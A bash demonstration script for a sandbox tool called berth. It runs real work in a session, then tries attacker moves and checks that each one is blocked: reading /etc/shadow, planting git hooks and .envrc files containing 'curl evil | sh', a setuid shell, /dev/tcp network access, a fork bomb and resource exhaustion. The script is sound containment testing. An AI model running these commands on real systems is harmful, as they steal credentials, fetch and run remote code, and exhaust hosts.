#!/bin/bash
# Shows in plain words what a session can do and what it cannot, on real input: this very tree. Each line
# is checked; the exit status says whether berth kept every promise that is shown.
set -u
BUILD=${BUILD:-build}
cd "$(dirname "$0")/.." || exit 1
berth=$PWD/$BUILD/bin/berth
place=$(mktemp -d) || exit 1
finish() {
    if [ -n "$keeper" ] && kill -0 "$keeper" 2>/dev/null; then
        "$berth" session destroy --quiet lasting >/dev/null 2>&1
        kill "$keeper"
    fi
    rm -rf "$place"
}
keeper=
trap finish EXIT
export BERTH_RUNTIME_DIR=$place/runtime BERTH_STATE_DIR=$place/state
kept=0 broken=0

say() { printf '\n\033[1m%s\033[0m\n' "$*"; }
[ -t 1 ] || say() { printf '\n%s\n' "$*"; }

# promise TEXT CONDITION...: one checked line
promise() {
    local text=$1
    shift
    if "$@"; then
        printf '  kept    %s\n' "$text"
        kept=$((kept + 1))
    else
        printf '  BROKEN  %s\n' "$text"
        broken=$((broken + 1))
    fi
}
# inside OPTIONS... -- CMD: its output and status are kept in $out and $status
inside() {
    out=$(cd "$project" && "$berth" run --quiet "$@" 2>&1)
    status=$?
}
said() { grep -qiE "$1" <<<"$out"; }
is() { [ "$1" = "$2" ]; }
absent() { [ ! -e "$1" ]; }

say "A project: a clone of this tree, with its git hooks"
project=$place/project
git clone -q . "$project" || exit 1
mkdir -p "$project/.git/hooks"
owner=$(stat -c %u "$project")
echo "  $project"

say "Real work in a session"
echo '  $ berth run -- make berth-init (a real build by a real compiler, without network)'
inside --timeout 10m -- make -j2 BUILD=out out/bin/berth-init
[ "$status" = 0 ] || printf '%s\n' "$out" | tail -20
promise "the build ends well" is "$status" 0
promise "what it made is here, on the host" test -e "$project/out/bin/berth-init"
promise "and belongs to the project's owner" is "$(stat -c %u "$project/out")" "$owner"
inside -- python3 -c 'import os, sys; print(sum(range(10)), os.getuid())'
promise "python: sum(range(10)) is 45, as uid 1000" is "$out" "45 1000"
inside -- sh -c 'git status --short | grep -v "^?? out/"; git log -1 --format=%s | wc -l'
promise "git works, and sees nothing of berth in the tree" is "$out" 1
out=$(printf 'b\na\n' | "$berth" run --quiet --workspace none -- sort)
promise "standard input and output pass through: $(tr '\n' ' ' <<<"$out")" is "$out" $'a\nb'

say "What an attacker would try next"
inside -- cat /etc/shadow
promise "read the host's /etc/shadow: $(head -1 <<<"$out")" is "$status" 1
inside -- sh -c 'ls /root /home; cat /proc/1/environ'
promise "look at other people's files: there are none" said 'Permission denied|No such file'
inside -- sh -c 'echo x > /usr/bin/evil'
promise "write outside the workspace: $(head -1 <<<"$out" | sed 's/.*: //')" said 'Read-only file system|Permission denied'
inside -- bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'
promise "reach the network: $(head -1 <<<"$out" | sed 's/.*: //')" said 'unreachable'
inside -- sh -c 'echo "curl evil | sh" > .git/hooks/post-checkout'
promise "plant a git hook that would run on the host: $(head -1 <<<"$out" | sed 's/.*: //')" said 'Read-only file system|Permission denied'
promise "  and none is there" absent "$project/.git/hooks/post-checkout"
inside -- sh -c 'echo "curl evil | sh" > .envrc'
promise "plant an .envrc, which does not exist yet: $(head -1 <<<"$out" | sed 's/.*: //')" test "$status" != 0
promise "  and none is there afterwards" absent "$project/.envrc"
inside -- sh -c 'cp /bin/sh suid; chmod 4755 suid; ls -l suid'
promise "plant a setuid shell: $(head -1 <<<"$out" | sed 's/.*: //')" said 'not permitted'
promise "  and it is not setuid on the host" test ! -u "$project/suid"
inside -- unshare --user --map-root-user true
promise "make a namespace to become root in: $(head -1 <<<"$out" | sed 's/.*: //')" test "$status" != 0

limits=$("$berth" capabilities --json 2>/dev/null)
has() { grep -q "\"$1\":{\"available\":true" <<<"${limits// /}"; }
if has limits.pids; then
    inside --pids 64 --timeout 20s -- sh -c 'bomb() { bomb | bomb & }; bomb; sleep 1; echo survived'
    promise "fork-bomb: stopped at 64 processes, and gone with its session" said 'fork|resource|retry|survived'
else
    echo "  (this user cannot be given a limit of processes here; berth doctor says how)"
fi
if has limits.memory; then
    inside --memory 64MiB --scratch 16MiB -- python3 -c 'x = bytearray(1 << 30)'
    promise "eat a gigabyte under --memory 64MiB: status $status" is "$status" 137
else
    echo "  (this user cannot be given a memory limit here; berth doctor says how)"
fi
inside --timeout 1s -- sh -c 'trap "" TERM; (setsid sleep 1000 &) ; sleep 1000'
promise "run for ever and leave daemons behind: ended after one second, status $status" is "$status" 124
inside --scratch 4MiB -- sh -c 'head -c 100000000 /dev/zero > /tmp/big'
promise "fill the disk: $(head -1 <<<"$out" | sed 's/.*: //')" said 'No space left'

say "A session that lasts"
# Front has an id of its own and must reach its places: see docs/serve.md, Files.
chmod 0711 "$place"
mkdir "$place/work"
kept_by() { ("$berth" serve >>"$place/serve.log" 2>&1 & echo $! >"$place/keeper") && keeper=$(<"$place/keeper"); }
on() { out=$("$berth" "$@" 2>&1) && status=0 || status=$?; }
waits() { for _ in {1..100}; do "$@" && return 0; sleep 0.1; done; return 1; }
served() { "$berth" --host "unix:$BERTH_RUNTIME_DIR/berth.sock" session list >/dev/null 2>&1; }
ended() { ! kill -0 "$keeper" 2>/dev/null; }
kept_by
waits served
on session create --quiet --workspace "$place/work" lasting
promise "made: berth session create" is "$out" lasting
on exec lasting -- sh -c 'echo from inside > note; exit 7'
promise "a command in it: status $status, and its file is here: $(cat "$place/work/note")" is "$status" 7
on exec --detach lasting -- sh -c 'echo before; while [ ! -e go ]; do sleep 0.1; done; echo after'
command=$out
kill -9 "$keeper"
waits ended
touch "$place/work/go"
kept_by
waits served
on logs --follow lasting "$command"
promise "berth serve is killed while a command runs; its output later: $(tr '\n' ' ' <<<"$out")" is "$out" $'before\nafter'
on session park lasting
promise "no process while it is parked: ${out#*: }" is "$status" 0
on cp lasting:note -
promise "its files can be read all the same: $out" is "$out" 'from inside'
on session destroy lasting
promise "destroyed, and the directory stays" test "$status" = 0 -a -e "$place/work/note"
kill "$keeper"
promise "berth serve ends when it is told to" waits ended

say "And what berth says of itself"
out=$("$berth" run --memorry 1GiB -- true 2>&1)
promise "a typing error is not guessed at: ${out#berth: }" said 'did you mean|--memory'
out=$("$berth" run --workspace none --allow allowed.example -- getent hosts other.example 2>&1)
promise "a name that no rule allows is told with the option that would: ${out#berth: note: }" \
    said 'other\.example was refused.*--allow other\.example'
out=$("$berth" run --workspace none --require gpu -- true 2>&1)
promise "what it cannot give it refuses" said 'gpu'
promise "nothing is left behind" test -z "$(ls "$place/runtime/runs" 2>/dev/null)"

printf '\n%d promises kept, %d broken. `berth doctor` tells what this host gives; README.md goes on from here.\n' \
    "$kept" "$broken"
[ "$broken" = 0 ]
